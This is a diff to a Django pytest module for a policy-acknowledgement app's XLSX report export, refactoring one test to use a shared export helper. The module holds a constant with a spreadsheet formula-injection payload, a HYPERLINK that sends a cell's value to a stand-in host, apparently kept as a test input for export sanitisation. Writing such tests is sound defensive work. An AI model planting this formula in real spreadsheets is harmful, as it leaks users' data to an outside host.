@@ -8,11 +8,11 @@ import io
 
 import pytest
 from django.core.management import call_command
-from django.urls import reverse
 from openpyxl import load_workbook
 
 from acknowledgements.services import sync_obligations
 from tests.factories import PersonFactory, published_policy, sign_off_rule
+from tests.reports.exporting import prepared_export
 
 LEAK = '=HYPERLINK("http://x.example/?leak="&B2,"Click me")'
 OWED_SINCE, DUE = 7, 8  # columns H and I: owed_since, due (after version and period)
@@ -34,8 +34,7 @@ def the_row(workbook_bytes: bytes):
 
 
 def test_trust_hr_xlsx_export_holds_dates_that_excel_can_sort(world, signed_in, owing):
-    response = signed_in(world.trust_hr).get(reverse("reports:export", args=["xlsx"]))
-    sheet, row = the_row(response.content)
+    sheet, row = the_row(prepared_export(signed_in(world.trust_hr), "xlsx"))
     published = owing.current_version.effective_on
     for cell in (row[OWED_SINCE], row[DUE]):
         assert cell.is_date, cell.value
